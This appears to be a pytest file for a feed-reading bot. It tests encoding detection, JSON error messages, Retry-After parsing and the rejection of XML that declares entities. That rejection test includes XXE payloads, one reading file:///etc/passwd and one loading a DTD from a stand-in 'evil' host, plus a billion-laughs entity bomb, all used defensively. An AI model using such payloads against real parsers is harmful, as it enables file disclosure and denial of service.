"""The guards in front of feedparser, on their own (pure functions)."""

from __future__ import annotations

import pytest

from bot.sources import ParseError
from bot.sources.parsing import check_xml, read_feed, read_json

RSS_091 = (
    b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    b'<rss version="0.91"><channel><title>Caf\xe9 [notes]</title><link>https://x.example/</link>'
    b"<description>d</description><item><title>Caf\xe9</title>"
    b"<link>https://x.example/1</link></item></channel></rss>"
)


def test_a_doctype_without_entities_and_latin1_bytes_are_fine() -> None:
    parsed, warning = read_feed(RSS_091, {"content-type": "application/rss+xml"})
    assert warning is None
    assert parsed.entries[0].title == "Café"


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><rss/>',
        b"<!doctype feed [ <!element feed ANY> ]><feed/>",
    ],
    ids=["external entity", "parameter entity", "internal subset"],
)
def test_documents_declaring_entities_are_refused(document: bytes) -> None:
    with pytest.raises(ParseError, match="declares entities"):
        check_xml(document, {})


def _atom(title: str) -> str:
    return (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        f"<entry><id>https://x.example/1</id><title>{title}</title></entry></feed>"
    )


LATIN = "Caf\u00e9 \u2014 r\u00e9sum\u00e9"
RUSSIAN = "Новые статьи"


@pytest.mark.parametrize(
    ("document", "headers", "title"),
    [
        (  # the HTTP charset outranks the XML declaration (RFC 7303)
            b'<?xml version="1.0" encoding="iso-8859-1"?>' + _atom(LATIN).encode(),
            {"Content-Type": "application/atom+xml; charset=utf-8"},
            LATIN,
        ),
        (  # a byte-order mark outranks the HTTP charset
            ('\ufeff<?xml version="1.0" encoding="utf-16"?>' + _atom(LATIN)).encode("utf-16-le"),
            {"Content-Type": "application/xml; charset=utf-8"},
            LATIN,
        ),
        (("\ufeff" + _atom(LATIN)).encode("utf-32-be"), {}, LATIN),  # UTF-32, no header
        (  # text/xml without a charset: the declaration decides (not US-ASCII)
            b'<?xml version="1.0" encoding="koi8-r"?>' + _atom(RUSSIAN).encode("koi8-r"),
            {"Content-Type": "text/xml"},
            RUSSIAN,
        ),
    ],
    ids=["http charset over declaration", "BOM over http charset", "UTF-32 BOM", "text/xml"],
)
def test_every_encoding_is_read_by_feedparsers_rules(
    document: bytes, headers: dict[str, str], title: str
) -> None:
    parsed, _warning = read_feed(document, headers)
    assert parsed.entries[0].title == title


def test_a_legacy_encoding_without_any_charset_is_detected() -> None:
    title = " ".join([RUSSIAN + " о машинном обучении"] * 4)
    parsed, _warning = read_feed(_atom(title).encode("koi8-r"), {"Content-Type": "application/xml"})
    assert parsed.entries[0].title == title


def test_an_entity_bomb_is_refused_in_any_encoding() -> None:
    from tests.sources.builders import BILLION_LAUGHS

    for encoded in (BILLION_LAUGHS, b"\xff\xfe" + BILLION_LAUGHS.decode().encode("utf-16-le")):
        with pytest.raises(ParseError, match="declares entities"):
            read_feed(encoded, {})


def test_json_errors_name_what_arrived() -> None:
    with pytest.raises(ParseError, match="got an HTML page, not a feed: check the URL"):
        read_json(b"  <html>busy</html>")
    with pytest.raises(ParseError, match="XML or HTML where JSON"):
        read_json(b'<?xml version="1.0"?><feed/>')
    with pytest.raises(ParseError, match="malformed JSON"):
        read_json(b'{"a": ')
    assert read_json(b"[]") == []


def test_retry_after_as_seconds_or_as_a_date_against_the_server_clock() -> None:
    from bot.sources.fetch import _retry_after

    assert _retry_after("120") == 120
    assert _retry_after("Wed, 22 Oct 2025 12:02:00 GMT", "Wed, 22 Oct 2025 12:00:00 GMT") == 120
    assert _retry_after("Wed, 22 Oct 2025 12:02:00 GMT", None) == 60
    assert _retry_after("soon") is None
    assert _retry_after(None) is None
